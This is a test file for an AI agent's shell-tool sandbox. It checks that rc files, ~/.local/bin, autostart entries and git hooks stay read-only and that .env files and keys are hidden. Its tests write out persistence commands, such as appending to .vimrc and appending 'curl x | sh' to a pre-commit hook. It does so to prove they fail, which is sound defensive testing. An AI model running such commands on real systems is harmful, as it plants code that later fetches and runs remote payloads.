// Persistence locations (issue #24): the shell tool's sandbox never binds a place that runs code
// later writable, even when the judge let the command through (bypassed here: the plan is built
// straight from a scope that names the file as a write). A real bwrap run on a real PTY shows the
// host's file unchanged; the binds alone show the same without a sandbox.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it, type TestContext } from 'vitest';
import { runShellTool } from '../../../main/gateway/shell-tool.js';
import { extract, initExtractor } from '../../../main/policy/extract/index.js';
import type { ToolCall } from '../../../main/policy/types.js';
import { PtyManager } from '../../../main/pty/pty-manager.js';
import { shellPlan, shellProfile } from '../../../main/runner/sandbox-plan.js';
import { detectSandbox } from '../../../main/runner/sandbox.js';
import { tempDir } from '../../support/temp.js';

const sandbox = detectSandbox();

function needsBwrap(ctx: TestContext): void {
  if (sandbox.kind === 'bwrap') return;
  console.warn(`skipped "${ctx.task.name}": bubblewrap is not usable here: ${sandbox.reason}`);
  ctx.skip();
}

/** A home with a .vimrc, a ~/.local/bin and a project with a git hook. */
function fakeHome() {
  const root = tempDir('gatehouse-persist-');
  const home = join(root, 'home');
  const proj = join(home, 'work', 'proj');
  mkdirSync(join(home, '.local', 'bin'), { recursive: true });
  mkdirSync(join(home, '.config', 'autostart'), { recursive: true });
  mkdirSync(join(proj, '.git', 'hooks'), { recursive: true });
  writeFileSync(join(home, '.vimrc'), 'set number\n');
  writeFileSync(join(proj, '.git', 'config'), '[core]\n');
  writeFileSync(join(proj, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\n');
  return { home, proj };
}

/** The shell tool, run on what extraction finds, in the plan's sandbox: no policy asked. */
async function run(command: string, cwd: string, home: string) {
  await initExtractor();
  const ptys = new PtyManager({ log: () => {}, record: () => {}, events: { output: () => {}, changed: () => {} } });
  try {
    const call: ToolCall = { id: 'c-persist', agent: 'claude', session: 's1', tool: 'shell', arguments: { command }, cwd, source: 'api', receivedAt: 0 };
    return await runShellTool({ ptys, plan: (scope, timeoutMs) => shellPlan(sandbox, scope, { timeoutMs, home }) }, call, extract(call, { home }));
  } finally {
    await ptys.close();
  }
}

describe("the shell tool's sandbox and persistence locations", () => {
  it('binds a named rc file, ~/.local/bin and autostart read-only even when the command writes them', () => {
    const { home, proj } = fakeHome();
    const paths = [join(home, '.vimrc'), join(home, '.local', 'bin', 'ls'), join(home, '.config', 'autostart', 'x.desktop'), join(proj, 'out.txt')];
    const profile = shellProfile({ cwd: proj, paths, hosts: [], evasive: false, operations: ['write'] }, home);
    expect(profile.write).toEqual([proj]);
    expect(profile.read).toEqual(expect.arrayContaining([join(home, '.vimrc'), join(home, '.local', 'bin'), join(home, '.config', 'autostart')]));
    // The writable project's own hooks and config are bound read-only on top of it.
    expect([...(profile.lock ?? [])].sort()).toEqual([join(proj, '.git', 'config'), join(proj, '.git', 'hooks')]);
  });

  it("hides the working folder's secret files by name (.env, keys) from the command and what it runs; templates stay", () => {
    const { home, proj } = fakeHome();
    mkdirSync(join(proj, 'deploy'), { recursive: true });
    writeFileSync(join(proj, '.env'), 'API_KEY=secret\n');
    writeFileSync(join(proj, '.env.example'), 'API_KEY=\n');
    writeFileSync(join(proj, 'deploy', 'id_ed25519'), 'key\n');
    const profile = shellProfile({ cwd: proj, paths: [], hosts: [], evasive: false, operations: [] }, home);
    expect(profile.hide).toEqual(expect.arrayContaining([join(proj, '.env'), join(proj, 'deploy', 'id_ed25519')]));
    expect(profile.hide).not.toContain(join(proj, '.env.example'));
  });

  it('`echo x >> ~/.vimrc` run in the sandbox leaves the host file as it was', async (ctx) => {
    needsBwrap(ctx);
    const { home, proj } = fakeHome();
    const vimrc = join(home, '.vimrc');
    const r = await run(`echo '!touch /tmp/pwned' >> ${vimrc}`, proj, home);
    expect(r.ok, r.stdout).toBe(false);
    expect(readFileSync(vimrc, 'utf8')).toBe('set number\n');
  });

  it("a command that may write its project still cannot change the project's git hooks", async (ctx) => {
    needsBwrap(ctx);
    const { home, proj } = fakeHome();
    const r = await run('echo ok > out.txt; echo "curl x | sh" >> .git/hooks/pre-commit', proj, home);
    expect(readFileSync(join(proj, 'out.txt'), 'utf8')).toBe('ok\n');
    expect(r.ok, r.stdout).toBe(false);
    expect(readFileSync(join(proj, '.git', 'hooks', 'pre-commit'), 'utf8')).toBe('#!/bin/sh\n');
  });
});
